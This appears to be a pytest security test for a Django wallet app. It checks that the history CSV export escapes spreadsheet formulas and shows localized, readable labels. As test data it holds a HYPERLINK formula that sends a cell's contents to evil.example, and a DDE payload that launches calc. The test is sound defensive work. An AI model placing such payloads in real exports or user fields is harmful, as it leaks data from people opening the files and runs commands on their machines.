"""/wallet/history.csv: a spreadsheet of the history in the reader's words, language and time
zone (no codes, the reference the pages show); cells a spreadsheet would run as formulas are
escaped (issue 15, finding 10); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client

from walletdesk.wallet import services

pytestmark = [pytest.mark.django_db, pytest.mark.security]
EVIL_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _rows(user: Any, lang: str = "en") -> list[list[str]]:
    c = Client(headers={"accept-language": lang})
    c.force_login(user)
    r = c.get("/wallet/history.csv")
    assert r.status_code == 200
    text = b"".join(r.streaming_content).decode().lstrip("\ufeff")  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(text)))


def test_formula_cells_are_escaped_for_the_receiver(customer: Any, make_customer: Any,
                                                    fund: Any) -> None:
    customer.display_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    customer.save(update_fields=["display_name"])
    other = make_customer("bob@example.com")
    fund(customer, 10_000)
    services.transfer(customer, to=other.email, amount=1_250, currency="CNY", note=EVIL_NOTE)
    header, *rows = _rows(other)
    row = dict(zip(header, rows[0], strict=True))
    assert row["Note"] == "'" + EVIL_NOTE
    assert row["Counterparty"].startswith("'@")
    assert row["Amount"] == "12.50"  # a number, not text
    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r)


@pytest.mark.parametrize("lang, expected", [
    ("zh-hans", {"时间（香港时间）": "2026-03-01 08:30:00", "类型": "付款", "状态": "已完成",
                 "收/支": "支出", "支付方式": "钱包余额", "商户": "示例咖啡"}),
    ("zh-hant", {"時間（香港時間）": "2026-03-01 08:30:00", "類型": "付款", "狀態": "已完成",
                 "收/支": "支出", "支付方式": "錢包餘額", "商戶": "示例咖啡"}),
    ("en", {"Time (Hong Kong time)": "2026-03-01 08:30:00", "Type": "Payment",
            "Status": "Completed", "In or out": "Money out", "Method": "Wallet balance",
            "Merchant": "Sample Coffee"}),
])
def test_rows_speak_the_readers_language_and_zone(customer: Any, merchant: Any, fund: Any,
                                                  make_customer: Any, lang: str,
                                                  expected: dict[str, str]) -> None:
    from datetime import UTC, datetime

    from walletdesk.core import clock

    customer.time_zone = "Asia/Hong_Kong"
    customer.save(update_fields=["time_zone"])
    fund(customer, 10_000)
    with clock.frozen(datetime(2026, 3, 1, 0, 30, tzinfo=UTC)):  # 08:30 in Hong Kong
        paid = services.pay(customer, merchant=merchant, amount=1_234, currency="CNY",
                            method="balance")
    bob = make_customer("bob@example.com")
    fund(bob, 1_000)
    gift = services.transfer(bob, to=customer.email, amount=500, currency="CNY")
    header, *rows = _rows(customer, lang)
    by_ref = {r[1]: dict(zip(header, r, strict=True)) for r in rows}
    assert {k: by_ref[paid.reference_grouped][k] for k in expected} == expected
    received = list(by_ref[gift.reference_grouped].values())
    assert received[4:6] == ["Money in" if lang == "en" else "收入", "5.00"]
    assert received[10] == str(bob)  # who sent it
    cells = [cell for r in [header, *rows] for cell in r]
    # Codes a person cannot read never appear: ids, type, status and method codes, slugs.
    assert not any(cell.startswith("tx_") or cell in {"payment", "completed", "balance", "out",
                                                      "sample-coffee"} for cell in cells)
